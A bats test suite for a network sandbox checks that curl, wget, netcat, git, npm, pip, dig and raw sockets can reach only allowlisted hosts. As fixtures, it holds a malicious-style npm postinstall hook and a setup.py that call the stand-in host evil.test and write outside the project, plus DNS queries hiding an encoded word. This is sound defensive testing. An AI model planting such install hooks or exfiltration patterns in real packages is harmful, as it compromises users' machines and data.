# The programs that people and agents use, in the small internet: none of them knows of a gateway.
bats_require_minimum_version 1.5.0
load common

more_setup() {
    N=$T/internet
    mkdir -p "$N/www" "$SUBSTRATE_HOME/policies"
    chmod 0700 "$SUBSTRATE_HOME"
    printf 'id: default\nmode: enforce\nnet: {allowed: [pypi.test, registry.test]}\n' >"$SUBSTRATE_HOME/policies/default.yaml"
}
# A script that reads its commands from standard input, in the small internet.
in_internet() { timeout 120 bash "$BATS_TEST_DIRNAME/small_internet.sh" "$N" bash -eu -c "export N=$N; $(declare -f must fails); cp $N/ca.pem .; $(cat)"; }
# must PATTERN COMMAND: succeeds and prints it. fails PATTERN COMMAND: does neither succeed nor hang.
must() {
    if out=$(timeout 60 substrate -c "$2" 2>&1) && grep -Eq -- "$1" <<<"$out"; then return; fi
    printf -- '-- %s\n%s\n' "$2" "$out"
    exit 1
}
fails() {
    local code=0
    out=$(timeout 60 substrate -c "$2" 2>&1) || code=$?
    if ((code != 0 && code != 124)) && grep -Eq -- "$1" <<<"$out"; then return; fi
    printf -- '-- %s: %s\n%s\n' "$2" "$code" "$out"
    exit 1
}

@test "curl: by an allowed name only, and a refusal says why" {
    in_internet <<'E'
must '^44.128.0.10 pypi.test /simple/$' 'curl -sS --cacert ca.pem https://pypi.test/simple/'
fails 'substrate: network: evil.test. refused: net.allowed does not name it' 'curl -sS --cacert ca.pem https://evil.test/'
fails 'curl: \(7\)' 'curl -sSk https://44.128.0.10/'
E
}

@test "wget, netcat, node, python and a static program" {
    in_internet <<'E'
must '^44.128.0.10 pypi.test /w$' 'wget -qO- --ca-certificate=ca.pem https://pypi.test/w'
fails 'unable to resolve|Name or service|failure in name' 'wget -O- -t1 http://evil.test/'
must '^hello$' 'echo there | nc -N -w 20 pypi.test 7'
must '^there$' 'echo there | nc -N -w 20 pypi.test 7'
must 'succeeded' 'nc -vz -w 20 pypi.test 443'
fails 'evil.test' 'nc -vz -w 20 evil.test 443'
fails 'refused' 'nc -vz -w 20 44.128.0.66 443'
must '^44.128.0.10 pypi.test /b$' 'busybox wget -qO- http://pypi.test/b'
fails 'bad address' 'busybox wget -qO- http://evil.test/b'
must '^44.128.0.10 pypi.test /p$' 'python3 -c "
import ssl, urllib.request
print(urllib.request.urlopen(\"https://pypi.test/p\", context=ssl.create_default_context(cafile=\"ca.pem\")).read().decode())"'
if command -v node >/dev/null; then
    cat >get.js <<'S'
const https = require('https'), fs = require('fs');
https.get({host: process.argv[2], path: '/n', ca: fs.readFileSync('ca.pem')}, r => r.pipe(process.stdout))
    .on('error', e => { console.error(e.code); process.exitCode = 1; });
S
    must '^44.128.0.10 pypi.test /n$' 'node get.js pypi.test'
    fails 'ENOTFOUND|EREFUSED|EAI_AGAIN' 'node get.js evil.test'
fi
E
}

@test "git clones and fetches over https" {
    mkdir -p "$N/www/pypi.test"
    git init -q "$T/origin"
    echo one >"$T/origin/file"
    git -C "$T/origin" add file
    git -C "$T/origin" -c user.name=t -c user.email=t@t.test commit -qm one
    git clone -q --bare "$T/origin" "$N/www/pypi.test/origin.git"
    git -C "$N/www/pypi.test/origin.git" update-server-info
    in_internet <<'E'
must '^one$' "git -c http.sslCAInfo=$PWD/ca.pem clone -q https://pypi.test/origin.git && cat origin/file"
must '' "git -c http.sslCAInfo=$PWD/ca.pem -C origin fetch -q"
fails 'Could not resolve host: evil.test' 'git clone -q https://evil.test/origin.git other'
E
    [[ $(cat origin/file) == one ]]
}

@test "npm installs from an allowed registry, and its scripts reach no other" {
    need_program npm
    mkdir -p "$N/www/registry.test/tiny/-" "$T/tiny/package"
    cat >"$T/tiny/package/package.json" <<'E'
{"name": "tiny", "version": "1.0.0", "scripts": {"postinstall": "curl -sS http://evil.test/ >/dev/null 2>told || echo x >>told; echo x >\"$HOME/escaped\" || true"}}
E
    tar -C "$T/tiny" -czf "$N/www/registry.test/tiny/-/tiny-1.0.0.tgz" package
    printf '{"name":"tiny","dist-tags":{"latest":"1.0.0"},"versions":{"1.0.0":{"name":"tiny","version":"1.0.0","hasInstallScript":true,"scripts":{"postinstall":"%s"},"dist":{"tarball":"https://registry.test/tiny/-/tiny-1.0.0.tgz","integrity":"sha512-%s"}}}}' \
        "$(jq -r '.scripts.postinstall | @json[1:-1]' "$T/tiny/package/package.json")" "$(openssl dgst -sha512 -binary "$N/www/registry.test/tiny/-/tiny-1.0.0.tgz" | base64 -w0)" >"$N/www/registry.test/tiny/index.html"
    in_internet <<'E'
echo '{"name": "p", "version": "1.0.0"}' >package.json
printf 'registry=https://registry.test/\ncafile=%s/ca.pem\naudit=false\nfund=false\nupdate-notifier=false\ncache=%s/.cache\nfetch-retries=0\nallow-scripts=tiny\n' "$PWD" "$PWD" >.npmrc
must 'added 1 package' 'npm install tiny'
grep -q 1.0.0 node_modules/tiny/package.json
grep -q 'Could not resolve host: evil.test' node_modules/tiny/told
! grep -q evil.test "$N/dnsmasq.log"
printf 'registry=https://evil.test/\nfetch-retries=0\n' >.npmrc
rm -rf node_modules package-lock.json
fails 'evil.test' 'npm install tiny'
E
    [[ ! -e $HOME/escaped ]]
}

@test "pip installs from an allowed index and writes nothing outside the project" {
    mkdir -p "$N/www/pypi.test/simple/tiny" "$T/tiny-1.0"
    cat >"$T/tiny-1.0/setup.py" <<'E'
import os, setuptools, urllib.request
try:
    open(os.path.expanduser("~/escaped"), "w").write("x")
except OSError:
    pass
try:
    urllib.request.urlopen("http://evil.test/")
except OSError:
    pass
setuptools.setup(name="tiny", version="1.0", py_modules=["tiny"])
E
    echo 'answer = 42' >"$T/tiny-1.0/tiny.py"
    printf 'Metadata-Version: 1.0\nName: tiny\nVersion: 1.0\n' >"$T/tiny-1.0/PKG-INFO"
    tar -C "$T" -czf "$N/www/pypi.test/simple/tiny/tiny-1.0.tar.gz" tiny-1.0
    echo '<a href="tiny-1.0.tar.gz">tiny-1.0.tar.gz</a>' >"$N/www/pypi.test/simple/tiny/index.html"
    in_internet <<'E'
pip='/usr/bin/pip3 --disable-pip-version-check install --no-cache-dir --no-build-isolation --cert ca.pem --retries 0'
must 'Successfully installed tiny-1.0' "$pip --index-url https://pypi.test/simple/ --target lib tiny"
must '^42$' 'PYTHONPATH=lib python3 -c "import tiny; print(tiny.answer)"'
! grep -q evil.test "$N/dnsmasq.log"
fails 'No matching distribution' "$pip --index-url https://evil.test/simple/ --target lib2 tiny"
substrate -c "$pip --index-url https://pypi.test/simple/ --target $HOME/lib tiny" >/dev/null 2>&1 || :
E
    [[ ! -e $HOME/escaped && ! -e $HOME/lib ]]
}

@test "dig: allowed names only, at no other server, and no words hidden in questions" {
    in_internet <<'E'
must '^198\.18\.' 'dig +short +tries=1 pypi.test'
must '^198\.18\.' 'dig +short +tcp +tries=1 pypi.test'
must 'status: NOERROR' 'dig +tries=1 pypi.test AAAA'
must 'status: NOERROR' 'dig +tries=1 pypi.test TYPE65'
must 'status: REFUSED' 'dig +tries=1 evil.test'
must 'status: REFUSED' 'dig +tries=1 c2VjcmV0.evil.test'
must 'status: REFUSED' 'dig +tries=1 c2VjcmV0.pypi.test'
must 'status: REFUSED' 'dig +tries=1 pypi.test TXT'
must 'status: (REFUSED|NOTIMP|FORMERR)' 'dig +tries=1 pypi.test ANY'
address=$(substrate -c 'dig +short pypi.test')
must '^pypi.test.$' "dig +short -x $address"
for way in +notcp +tcp; do fails 'refused|unreachable|no servers|timed out|host unreachable|prohibited|not permitted' "dig $way +tries=1 +time=5 @44.128.0.1 pypi.test"; done
! grep -Eq 'evil|c2VjcmV0' "$N/dnsmasq.log"
E
}

@test "datagrams and raw packets: refused at once" {
    cat >udp.py <<'E'
import errno, socket, struct, sys
def refused(what, attempt):
    try:
        attempt()
    except socket.timeout:
        sys.exit(f"{what}: nothing was said")
    except OSError as error:
        print(what, errno.errorcode[error.errno])
    else:
        sys.exit(f"{what}: went through")
def datagram(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(20)
    s.connect((host, port))
    s.send(b"\xc0\x00\x00\x00\x01" + bytes(1195))
    s.recv(1)
refused("quic", lambda: datagram("pypi.test", 443))
refused("quic by address", lambda: datagram("44.128.0.10", 443))
refused("dns elsewhere", lambda: datagram("44.128.0.1", 53))
for name, family, kind, protocol in [
        ("raw", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP), ("packet", socket.AF_PACKET, socket.SOCK_RAW, 0x0300),
        ("icmp", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), ("raw6", socket.AF_INET6, socket.SOCK_RAW, 255),
        ("sctp", socket.AF_INET, socket.SOCK_STREAM, 132)]:
    refused(name, lambda: socket.socket(family, kind, protocol).connect(("44.128.0.10", 443)))
E
    in_internet <<'E'
must '^quic (ECONNREFUSED|EPERM|EHOSTUNREACH|EACCES)' 'python3 udp.py'
E
}
